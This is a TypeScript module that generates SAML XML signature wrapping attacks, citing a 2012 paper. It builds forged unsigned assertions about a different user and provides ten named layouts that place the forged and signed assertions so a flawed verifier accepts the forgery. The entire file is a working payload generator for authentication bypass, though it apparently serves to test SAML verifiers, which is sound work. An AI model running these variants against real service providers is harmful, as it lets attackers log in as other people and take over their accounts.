/** Makes attacks that keep a signature valid but have other content read (signature wrapping; Somorovsky et al., On Breaking SAML, 2012). */
const assertionIn = (xml: string): string => /<saml:Assertion[\s\S]*<\/saml:Assertion>/.exec(xml)?.[0] ?? '';
const signatureIn = (xml: string): string => /<Signature [\s\S]*<\/Signature>/.exec(xml)?.[0] ?? '';

export const withoutSignature = (xml: string): string => xml.replace(signatureIn(xml), '');

/** Returns an attacker's assertion: unsigned, with another identifier, about another person. */
const forged = (assertion: string, person: string, wanted: string): string =>
  withoutSignature(assertion)
    .replace(/\bID="[^"]+"/, 'ID="_forged"')
    .replaceAll(person, wanted);

/** Returns the XML that replaces the assertion. */
type Wrap = (parts: { signed: string; evil: string; signature: string; bare: string }) => string;

const wraps: Record<string, Wrap> = {
  'the forged before the signed': ({ signed, evil }) => evil + signed,
  'the signed before the forged': ({ signed, evil }) => signed + evil,
  'the signed within the forged': ({ signed, evil }) => evil.replace('</saml:Assertion>', `${signed}</saml:Assertion>`),
  'the forged within the signed': ({ signed, evil }) => signed.replace('</saml:Assertion>', `${evil}</saml:Assertion>`),
  'the signature in the forged, the signed beside': ({ evil, signature, bare }) =>
    evil.replace('<saml:Subject>', `${signature}<saml:Subject>`) + bare,
  'the signed in the signature of the forged': ({ evil, signature, bare }) =>
    evil.replace('<saml:Subject>', `${signature.replace('</Signature>', `<Object>${bare}</Object></Signature>`)}<saml:Subject>`),
  'the forged in an extension': ({ signed, evil }) => `<samlp:Extensions>${evil}</samlp:Extensions>${signed}`,
  'the signed in an extension': ({ signed, evil }) => `<samlp:Extensions>${signed}</samlp:Extensions>${evil}`,
  'the forged under the identifier of the signed': ({ signed, evil }) =>
    `<samlp:Extensions>${signed}</samlp:Extensions>${evil.replace('ID="_forged"', /\bID="[^"]+"/.exec(signed)?.[0] ?? '')}`,
  'the signed in a response of its own': ({ signed, evil }) =>
    `${evil}<samlp:Extensions><samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol">${signed}</samlp:Response></samlp:Extensions>`,
};

/** The attacks by name: each changes a signed response about one person so that it would let in another. */
export const variants: Record<string, (xml: string, person: string, wanted: string) => string> = Object.fromEntries(
  Object.entries(wraps).map(([name, wrap]) => [
    name,
    (xml: string, person: string, wanted: string) => {
      const signed = assertionIn(xml);
      const parts = { signed, evil: forged(signed, person, wanted), signature: signatureIn(signed), bare: withoutSignature(signed) };
      return xml.replace(signed, () => wrap(parts));
    },
  ]),
);
